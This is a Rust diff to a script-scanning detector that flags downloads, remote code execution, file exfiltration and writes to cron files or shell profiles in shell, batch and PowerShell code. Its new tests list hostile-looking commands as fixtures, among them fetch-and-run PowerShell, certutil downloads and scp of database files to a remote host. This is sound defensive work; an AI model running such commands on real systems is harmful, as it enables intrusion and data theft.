@@ -8,6 +8,7 @@
 
 use std::collections::HashMap;
 
+use crate::catalog::lang::SHELLS;
 use crate::catalog::{Catalog, Role};
 use crate::finding::Code;
 
@@ -15,7 +16,7 @@ use super::addr::all_loopback;
 use super::program::{
     basename, is_exec_mode, is_mention, prog_name, rule_lang, start_process, unwrap,
 };
-use super::shape::is_null;
+use super::shape::{INPUT, is_null};
 use super::{Cmd, Lang, MAX_DEPTH, Pipeline, Script, decode};
 
 pub use super::addr::{is_loopback, url_host};
@@ -49,18 +50,8 @@ pub struct Engine<'c> {
     budget: usize,
 }
 
-pub(super) const SHELLS: &[&str] = &[
-    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "yash", "rbash", "fish",
-];
 /// Programs that run what they are given (for pipes and downloaded files).
 const RUNNERS: &[&str] = &[
-    "sh",
-    "bash",
-    "dash",
-    "zsh",
-    "ksh",
-    "ash",
-    "mksh",
     "python",
     "python2",
     "python3",
@@ -93,6 +84,12 @@ const RUNNERS: &[&str] = &[
     "tclsh",
     "exec",
 ];
+
+/// Does `prog` run what it is given (a shell, an interpreter, a launcher)?
+pub(super) fn is_runner(prog: &str) -> bool {
+    SHELLS.contains(&prog) || RUNNERS.contains(&prog)
+}
+
 const OUTPUT_OPTS: &[&str] = &[
     "-o",
     "-O",
@@ -115,6 +112,10 @@ pub(super) struct Step<'a> {
     pub prog: String,
     pub at: usize,
     pub depth: usize,
+    /// What runs this command's output, when something does: the program
+    /// it is piped into (a shell, `at`, `crontab`), or the cron file or
+    /// shell profile it is written to.
+    pub sink: Option<String>,
 }
 
 impl Step<'_> {
@@ -195,40 +196,82 @@ impl<'c> Engine<'c> {
             .or_else(|| self.vars.get(&name.to_ascii_lowercase()))
     }
 
-    /// `$NAME`, `${NAME}`, `$env:NAME`, `%NAME%` replaced by known values.
+    /// `$NAME`, `${NAME}`, `${NAME[@]}`, `${NAME:-default}`, `$env:NAME`,
+    /// `%NAME%`, batch `%%X` loop variables and `!NAME!` (delayed
+    /// expansion) replaced by known values.
     pub(super) fn expand(&self, w: &str) -> String {
-        if !w.contains('$') && !w.contains('%') {
+        if !w.contains(['$', '%', '!']) {
             return w.to_string();
         }
         let mut out = String::new();
         let b = w.as_bytes();
         let mut i = 0;
         while i < b.len() {
-            let c = b[i];
-            if c == b'$' || c == b'%' {
-                let braced = c == b'$' && b.get(i + 1) == Some(&b'{');
-                let name_start = i + 1 + usize::from(braced);
-                let mut j = name_start;
-                if w[j..].to_ascii_lowercase().starts_with("env:") {
-                    j += 4;
-                }
-                while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
-                    j += 1;
-                }
-                if let Some(v) = self.var(&w[name_start..j]) {
-                    out.push_str(v);
-                    i = j;
-                    if braced && b.get(i) == Some(&b'}') || c == b'%' && b.get(i) == Some(&b'%') {
-                        i += 1;
-                    }
-                    continue;
-                }
+            if let Some((value, next)) = self.reference(w, i) {
+                out.push_str(&value);
+                i = next;
+                continue;
             }
             let ch = w[i..].chars().next().unwrap_or(' ');
             out.push(ch);
             i += ch.len_utf8();
         }
         out
+    }
+
+    /// The value of a variable reference at byte `i` of `w` and the index
+    /// past it, when the variable is known (or has a default).
+    fn reference(&self, w: &str, i: usize) -> Option<(String, usize)> {
+        let b = w.as_bytes();
+        let c = b[i];
+        if !matches!(c, b'$' | b'%' | b'!') {
+            return None;
+        }
+        let ident = |j: usize| {
+            b.get(j)
+                .is_some_and(|x| x.is_ascii_alphanumeric() || *x == b'_')
+        };
+        if c == b'%'
+            && b.get(i + 1) == Some(&b'%')
+            && b.get(i + 2).is_some_and(u8::is_ascii_alphabetic)
+        {
+            // %%u: a batch for-loop variable
+            return self.var(&w[i..i + 3]).map(|v| (v.clone(), i + 3));
+        }
+        let braced = c == b'$' && b.get(i + 1) == Some(&b'{');
+        let name_start = i + 1 + usize::from(braced);
+        let mut j = name_start;
+        if c == b'$'
+            && w.get(j..j + 4)
+                .is_some_and(|p| p.eq_ignore_ascii_case("env:"))
+        {
+            j += 4;
+        }
+        while ident(j) {
+            j += 1;
+        }
+        let name = &w[name_start..j];
+        let known = self.var(name).cloned();
+        if braced {
+            // ${NAME[@]}, ${NAME:-default}, ${NAME-default}, ${NAME}
+            let close = w[j..].find('}').map(|n| j + n)?;
+            let tail = &w[j..close];
+            let tail = if tail.starts_with('[') {
+                tail.split_once(']').map(|(_, t)| t).unwrap_or("")
+            } else {
+                tail
+            };
+            let default = tail.strip_prefix(":-").or_else(|| tail.strip_prefix('-'));
+            let value = known.or_else(|| default.map(|d| self.expand(d)))?;
+            return Some((value, close + 1));
+        }
+        let value = known?;
+        let closing = match c {
+            b'%' | b'!' if b.get(j) == Some(&c) => j + 1,
+            b'%' | b'!' => return None,
+            _ => j,
+        };
+        Some((value, closing))
     }
 
     /// A command's words after expansion: `${IFS}` splits words, bash
@@ -249,7 +292,7 @@ impl<'c> Engine<'c> {
                 // "$(printf '\x63url')", `echo Y3VybA== | base64 -d`
                 x = text;
             }
-            if lang == Lang::Sh && w.contains("IFS") {
+            if lang == Lang::Sh && (w.contains("IFS") || w.contains("[@]") || w.contains("[*]")) {
                 out.extend(x.split_whitespace().map(str::to_string));
             } else if lang == Lang::Sh
                 && x.starts_with('{')
@@ -282,6 +325,58 @@ impl<'c> Engine<'c> {
         out
     }
 
+    /// Loop variables: `for X in WORDS` (the first URL among the words,
+    /// else the input stand-in when the words are computed), `read X…`
+    /// (a line of input).
+    fn loop_vars(&mut self, lang: Lang, c: &Cmd) {
+        if lang != Lang::Sh {
+            return;
+        }
+        let argv = &c.argv;
+        let first = argv
+            .first()
+            .map(|w| w.to_ascii_lowercase())
+            .unwrap_or_default();
+        let k = usize::from(matches!(first.as_str(), "while" | "until" | "!"));
+        let k = k + argv[k.min(argv.len())..]
+            .iter()
+            .take_while(|w| w.contains('=') && !w.starts_with('-'))
+            .count();
+        let prog = argv.get(k).map(|w| prog_name(w)).unwrap_or_default();
+        match prog.as_str() {
+            "for" | "select" if argv.get(k + 2).is_some_and(|w| w == "in") => {
+                let words: Vec<String> = argv[k + 3..].iter().map(|w| self.expand(w)).collect();
+                let value = words
+                    .iter()
+                    .find(|w| w.contains("://"))
+                    .cloned()
+                    .or_else(|| {
+                        words
+                            .iter()
+                            .any(|w| w.starts_with('$') || w.starts_with('`'))
+                            .then(|| INPUT.to_string())
+                    });
+                if let Some(v) = value {
+                    self.vars.insert(argv[k + 1].clone(), v);
+                }
+            }
+            "read" => {
+                let mut i = k + 1;
+                while let Some(a) = argv.get(i) {
+                    if a.starts_with('-') {
+                        let takes =
+                            matches!(a.as_str(), "-p" | "-d" | "-u" | "-n" | "-N" | "-t" | "-a");
+                        i += 1 + usize::from(takes);
+                        continue;
+                    }
+                    self.vars.insert(a.clone(), INPUT.to_string());
+                    i += 1;
+                }
+            }
+            _ => {}
+        }
+    }
+
     fn assign(&mut self, c: &Cmd) {
         for (k, v) in &c.assigns {
             let v = self.expand(v);
@@ -292,9 +387,10 @@ impl<'c> Engine<'c> {
 
     fn cmd(&mut self, lang: Lang, c: &Cmd, upstream: &[Cmd], downstream: &[Cmd], depth: usize) {
         self.assign(c);
+        self.loop_vars(lang, c);
         let downloads_before = self.downloads.len();
         for s in &c.subs {
-            self.script(Lang::Sh, s, depth + 1);
+            self.script(lang, s, depth + 1);
         }
         let sub_download = self.downloads.len() > downloads_before;
         let own_start = self.downloads.len();
@@ -310,6 +406,7 @@ impl<'c> Engine<'c> {
         if self.declaration(&prog, &argv[at + 1..]) {
             return;
         }
+        let sink = sink(lang, c, downstream);
         let mut step = Step {
             lang,
             c,
@@ -317,17 +414,18 @@ impl<'c> Engine<'c> {
             prog,
             at,
             depth,
+            sink,
         };
-        // `… | xargs curl`: the arguments come from upstream.
-        if at > 0 && step.argv[..at].iter().any(|a| prog_name(a) == "xargs") {
-            for u in upstream {
-                step.argv
-                    .extend(u.argv.iter().skip(1).filter(|a| a.contains("://")).cloned());
-            }
+        if at > 0
+            && step.argv[..at]
+                .iter()
+                .any(|a| matches!(prog_name(a).as_str(), "xargs" | "parallel"))
+        {
+            fed_arguments(&mut step.argv, upstream);
         }
         self.nested(&step);
         self.heredoc_code(c);
-        let (is_download, loopback) = self.program_rules(&step);
+        let (is_download, loopback) = self.program_rules(&step, downstream);
         if is_download && !loopback {
             self.piped_run(&step, downstream);
             return;
@@ -339,7 +437,7 @@ impl<'c> Engine<'c> {
             .argv
             .get(at)
             .is_some_and(|a| a.starts_with("$(") || a.starts_with('`'));
-        if sub_download && (RUNNERS.contains(&step.prog.as_str()) || starts_with_sub) {
+        if sub_download && (is_runner(&step.prog) || starts_with_sub) {
             let d = &self.downloads[downloads_before];
             let after = Some((d.line, d.text.clone()));
             self.hit("download-substitution-run", c, false, after);
@@ -368,18 +466,26 @@ impl<'c> Engine<'c> {
             return;
         }
         let mut rules = self.cat.text_rules(&c.text, rule_lang(lang));
+        let mut seen = c.text.clone();
         if lang != Lang::Sh {
+            // String concatenation joined, then variables put back
+            // (`$d.Load($src)` with `$src = 'http://…'`).
             let joined = decode::joined_strings(&c.text);
-            if joined != c.text {
-                for r in self.cat.text_rules(&joined, rule_lang(lang)) {
+            let expanded = self.expand(&joined);
+            for t in [joined, expanded] {
+                if t == c.text {
+                    continue;
+                }
+                for r in self.cat.text_rules(&t, rule_lang(lang)) {
                     if !rules.contains(&r) {
                         rules.push(r);
                     }
                 }
+                seen = t;
             }
         }
         for r in rules {
-            self.push(r, c, all_loopback(&c.text), None);
+            self.push(r, c, all_loopback(&seen), None);
             self.note_download(r, c, argv);
         }
     }
@@ -419,7 +525,8 @@ impl<'c> Engine<'c> {
         }
         for a in rest {
             if let Some((k, v)) = a.split_once('=') {
-                self.vars.insert(k.to_string(), v.to_string());
+                let v = self.expand(v);
+                self.vars.insert(k.to_string(), v);
             }
         }
         true
@@ -529,16 +636,19 @@ impl<'c> Engine<'c> {
 
     /// Command rules of the program, and code in any argument (`gdb -ex
     /// 'python …'`, `vim -c`): (a download matched, all loopback).
-    fn program_rules(&mut self, s: &Step) -> (bool, bool) {
+    fn program_rules(&mut self, s: &Step, downstream: &[Cmd]) -> (bool, bool) {
         let mut is_download = false;
         let mut loopback = false;
         let rest = s.rest();
+        let output_runs = downstream
+            .iter()
+            .any(|d| unwrap(s.lang, &d.argv).is_some_and(|(p, _)| is_runner(&p)));
         for r in self.cat.rules_for_program(&s.prog) {
             let rule = &self.cat.rules[r];
             if !rule.lang.covers(rule_lang(s.lang)) {
                 continue;
             }
-            if let Some(lb) = super::shape::matches(rule, rest, s.c) {
+            if let Some(lb) = super::shape::matches(rule, rest, s.c, output_runs) {
                 self.push(r, s.c, lb, None);
                 if self.cat.rule_codes[r] != Code::DownloadExecChain {
                     is_download = true;
@@ -547,7 +657,8 @@ impl<'c> Engine<'c> {
                 }
             }
         }
-        for a in rest {
+        // Code in arguments; not in text that is only shown (`echo '… (or: wget URL)'`).
+        for a in rest.iter().filter(|_| !is_mention(&s.prog)) {
             if a.contains("://") && a.contains('(') {
                 for r in self.cat.text_rules(a, crate::catalog::RuleLang::Arg) {
                     self.push(r, s.c, all_loopback(a), None);
@@ -563,7 +674,7 @@ impl<'c> Engine<'c> {
     fn piped_run(&mut self, s: &Step, downstream: &[Cmd]) {
         let runner = downstream
             .iter()
-            .find(|d| unwrap(s.lang, &d.argv).is_some_and(|(p, _)| RUNNERS.contains(&p.as_str())));
+            .find(|d| unwrap(s.lang, &d.argv).is_some_and(|(p, _)| is_runner(&p)));
         if let Some(d) = runner {
             let c = s.c;
             let after = (d.line != c.line).then(|| (c.line, c.text.clone()));
@@ -600,7 +711,7 @@ impl<'c> Engine<'c> {
         if explicit_path && wrote(&own) {
             return true;
         }
-        RUNNERS.contains(&s.prog.as_str())
+        is_runner(&s.prog)
             && rest
                 .iter()
                 .find(|a| !a.starts_with('-') && !a.starts_with('/') || a.contains('/'))
@@ -659,6 +770,65 @@ impl<'c> Engine<'c> {
     }
 }
 
+/// What runs a command's output: the next program of the pipeline when it
+/// is a shell, `at`, `batch` or `crontab`; a cron file or shell profile
+/// its output is written to.
+fn sink(lang: Lang, c: &Cmd, downstream: &[Cmd]) -> Option<String> {
+    if let Some((p, _)) = downstream.first().and_then(|d| unwrap(lang, &d.argv))
+        && (SHELLS.contains(&p.as_str()) || matches!(p.as_str(), "at" | "batch" | "crontab"))
+    {
+        return Some(p);
+    }
+    c.redirs
+        .iter()
+        .filter(|r| r.op.starts_with('>'))
+        .map(|r| r.target.to_ascii_lowercase())
+        .find(|t| {
+            t.contains("cron")
+                || [
+                    ".bashrc",
+                    ".profile",
+                    ".bash_profile",
+                    ".zshrc",
+                    "/etc/profile",
+                    "rc.local",
+                ]
+                .iter()
+                .any(|p| t.ends_with(p) || t.contains("/etc/profile.d/"))
+        })
+}
+
+/// The arguments `xargs` / `parallel` hand the program: URLs upstream
+/// prints (`echo`/`printf` words, a here-doc) or after `:::`; else the
+/// program fetches whatever its input holds (`{}` and a trailing
+/// argument stand for it).
+fn fed_arguments(argv: &mut Vec<String>, upstream: &[Cmd]) {
+    let mut urls: Vec<String> = Vec::new();
+    for u in upstream {
+        urls.extend(u.argv.iter().skip(1).filter(|a| a.contains("://")).cloned());
+        if let Some(body) = &u.heredoc {
+            urls.extend(
+                body.split_whitespace()
+                    .filter(|w| w.contains("://"))
+                    .take(64)
+                    .map(str::to_string),
+            );
+        }
+    }
+    if !urls.is_empty() {
+        argv.extend(urls);
+        return;
+    }
+    if argv.iter().any(|a| a.contains("://")) {
+        return;
+    }
+    if let Some(p) = argv.iter().position(|a| a == "{}") {
+        argv[p] = INPUT.to_string();
+    } else {
+        argv.push(INPUT.to_string());
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -694,6 +864,126 @@ mod tests {
         ] {
             assert!(hits(Lang::Sh, src).contains(&"curl".to_string()), "{src}");
         }
+    }
+
+    /// Downloads whose target comes from input, arrays and loops.
+    const INPUT_FED: &[(Lang, &str, &str)] = &[
+        (Lang::Sh, "wget -q -i /etc/list -P /opt/x", "url-list"),
+        (Lang::Sh, "curl --config /run/c.conf", "curl-config"),
+        (Lang::Sh, "xargs -a /srv/u.txt wget -q -P /srv/c", "wget"),
+        (Lang::Sh, "cat l | xargs -I{} curl -sO {}", "curl"),
+        (
+            Lang::Sh,
+            "parallel curl -sO {} ::: http://203.0.113.7/a",
+            "curl",
+        ),
+        (
+            Lang::Sh,
+            "while IFS= read -r u; do curl -fsO \"$u\"; done < l",
+            "curl",
+        ),
+        (
+            Lang::Sh,
+            "for u in http://203.0.113.7/a; do wget \"$u\"; done",
+            "wget",
+        ),
+        (
+            Lang::Sh,
+            "d=(curl -fsS -o /tmp/r)\n\"${d[@]}\" http://203.0.113.7/r",
+            "curl",
+        ),
+        (Lang::Sh, "curl -o /tmp/x \"$1\"", "curl"),
+        (
+            Lang::Sh,
+            "P=${B:-http://203.0.113.7/w}/x; curl -so /tmp/x \"${P}\"",
+            "curl",
+        ),
+        (
+            Lang::Sh,
+            "find /d -name '*.db' -execdir scp {} u@198.51.100.9:/in/ \\;",
+            "scp-remote",
+        ),
+        (
+            Lang::Sh,
+            "flock -n /run/l -c 'curl -so /tmp/f http://203.0.113.7/f'",
+            "curl",
+        ),
+        (
+            Lang::Batch,
+            "set u=http://203.0.113.7/a\ncurl.exe -o C:\\a !u!",
+            "curl",
+        ),
+        (
+            Lang::Batch,
+            "for /f %%u in (C:\\l.txt) do curl.exe -sO %%u",
+            "curl",
+        ),
+        (
+            Lang::Batch,
+            "forfiles /m x /c \"cmd /c curl -o a http://203.0.113.7/a\"",
+            "curl",
+        ),
+        (
+            Lang::PowerShell,
+            "[string]$s = 'http://203.0.113.7/a'\niwr $s -OutFile a",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "param([string]$S = 'http://203.0.113.7/a')\nirm -Uri $S -OutFile b",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "$t = $env:windir + '\\certutil.exe'\n& $t -urlcache -f http://203.0.113.7/a b",
+            "certutil",
+        ),
+        (
+            Lang::PowerShell,
+            "& ([scriptblock]::Create((irm https://203.0.113.7/m.ps1)))",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "gc l.txt | % { iwr $_ -OutFile x }",
+            "powershell-webrequest",
+        ),
+        (
+            Lang::PowerShell,
+            "$u = 'http://203.0.113.7/c.xml'\n$d.Load($u)",
+            "xml-load-url",
+        ),
+    ];
+
+    /// Look-alikes of those: no transfer.
+    const INPUT_FED_LOOK_ALIKES: &[(Lang, &str)] = &[
+        (Lang::Sh, "curl -fsS \"$HEALTH_URL\""),
+        (Lang::Sh, "wget -qO- \"$U\" | head -1"),
+        (Lang::Sh, "cat reqs.txt | xargs pip install"),
+        (Lang::Sh, "find /tmp -name '*.part' -exec rm {} \\;"),
+        (Lang::Sh, "cmd=(wget --version)\n\"${cmd[@]}\""),
+        (Lang::Batch, "set u=http://203.0.113.7/a\necho !u!"),
+        (
+            Lang::PowerShell,
+            "Get-Help Invoke-WebRequest -Examples\nGet-Command Start-BitsTransfer",
+        ),
+        (Lang::PowerShell, "gc l.txt | % { Copy-Item $_ C:\\out }"),
+    ];
+
+    #[test]
+    fn targets_from_input_arrays_and_loops() {
+        for &(lang, src, rule) in INPUT_FED {
+            assert!(
+                hits(lang, src).contains(&rule.to_string()),
+                "{src}: {:?}",
+                hits(lang, src)
+            );
+        }
+        for &(lang, src) in INPUT_FED_LOOK_ALIKES {
+            assert!(hits(lang, src).is_empty(), "{src}: {:?}", hits(lang, src));
+        }
+        // curl -i shows headers: not a URL list.
+        assert_eq!(hits(Lang::Sh, "curl -i https://203.0.113.7/x"), ["curl"]);
     }
 
     #[test]
